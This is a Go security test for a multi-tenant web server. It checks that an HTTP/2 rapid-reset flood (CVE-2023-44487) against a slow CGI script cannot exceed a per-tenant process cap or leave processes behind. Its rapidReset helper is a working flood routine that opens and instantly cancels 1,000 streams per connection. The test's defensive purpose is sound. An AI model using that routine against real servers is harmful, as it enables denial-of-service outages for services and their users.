// HTTP-08: HTTP/2 rapid reset (CVE-2023-44487) against a CGI script.
//
// Exploit: on two HTTP/2 connections, 1,000 times each, open a stream for
// /cgi-bin/sleep.cgi (which would run 30 s) and reset it at once with
// RST_STREAM(CANCEL), written with golang.org/x/net/http2.Framer. Go bounds
// concurrent handlers per connection, but a reset stream's handler runs on,
// and with net/http/cgi so does its child: each connection could keep
// hundreds of scripts alive.
//
// Expectation: while the flood runs, tenant a never has more live
// processes than cgi.max_per_tenant (4 here; the script execs sleep, so one
// process per run); within a bounded poll after the connections close it
// has none; the server keeps serving scripts afterwards.
package security

import (
	"bytes"
	"crypto/tls"
	"io"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func TestHTTP08RapidResetCGI(t *testing.T) {
	requireRoot(t)
	t.Parallel()
	w := newWorld(t, "a.test")
	a := w.tenant("a.test")
	a.script("sleep.cgi", "exec sleep 30\n")
	a.script("hello.cgi", "printf 'Content-Type: text/plain\\r\\n\\r\\nhello\\n'\n")
	const perTenant = 4
	p := start(t, w.config(cfg{CGI: "  max_per_tenant: 4\n  timeout: 60s\n"}))

	var maxSeen atomic.Int64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		for {
			if n := int64(len(procsOf(a.UID))); n > maxSeen.Load() {
				maxSeen.Store(n)
			}
			select {
			case <-stop:
				return
			case <-time.After(5 * time.Millisecond):
			}
		}
	}()

	var wg sync.WaitGroup
	for range 2 {
		wg.Go(func() { rapidReset(t, p, 1000) })
	}
	wg.Wait()
	// Handlers of the reset streams may still be finishing: wait until
	// the CGI runner is idle, then for the processes to be gone.
	if !eventually(10*time.Second, func() bool { return p.metric("massvhost_cgi_requests_in_flight") == 0 }) {
		t.Errorf("CGI requests still in flight 10s after the connections closed")
	}
	waitNoProcs(t, a.UID, 5*time.Second)
	close(stop)
	<-sampled
	t.Logf("at most %d tenant processes during the flood; %v scripts started, %v refused by the cap",
		maxSeen.Load(), p.metric("massvhost_cgi_spawned_total"), p.metric(`massvhost_cgi_rejected_total{reason="cap"}`))
	if maxSeen.Load() > perTenant {
		t.Errorf("tenant a had %d processes at once, over cgi.max_per_tenant %d", maxSeen.Load(), perTenant)
	}
	// The server can spawn again once the flood's handlers are done. Under
	// load, net/http's HTTP/2 server may still start a queued handler of a
	// reset stream after the in-flight gauge first reads 0, and that one
	// holds a cap slot for a moment (503 with Retry-After is the right
	// answer then); a slot that is never given back fails here.
	var r response
	if !eventually(10*time.Second, func() bool {
		r = p.get("a.test", "/cgi-bin/hello.cgi")
		return r.Status == 200 && r.Body == "hello\n"
	}) {
		t.Errorf("script after the flood: %d %q", r.Status, r.Body)
	}
}

// rapidReset opens n streams for sleep.cgi on one connection, resetting
// each right after its HEADERS, then closes the connection.
func rapidReset(t *testing.T, p *proc, n int) {
	conn, err := p.dialTLS("a.test", &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		t.Error(err)
		return
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(60 * time.Second))
	io.WriteString(conn, http2.ClientPreface)
	fr := http2.NewFramer(conn, conn)
	fr.WriteSettings()
	go io.Copy(io.Discard, conn) // the server's frames, unread
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for i := range n {
		hb.Reset()
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: "a.test"}, {Name: ":path", Value: "/cgi-bin/sleep.cgi"}} {
			enc.WriteField(f)
		}
		id := uint32(2*i + 1)
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return // the server ended the connection (GOAWAY)
		}
	}
}
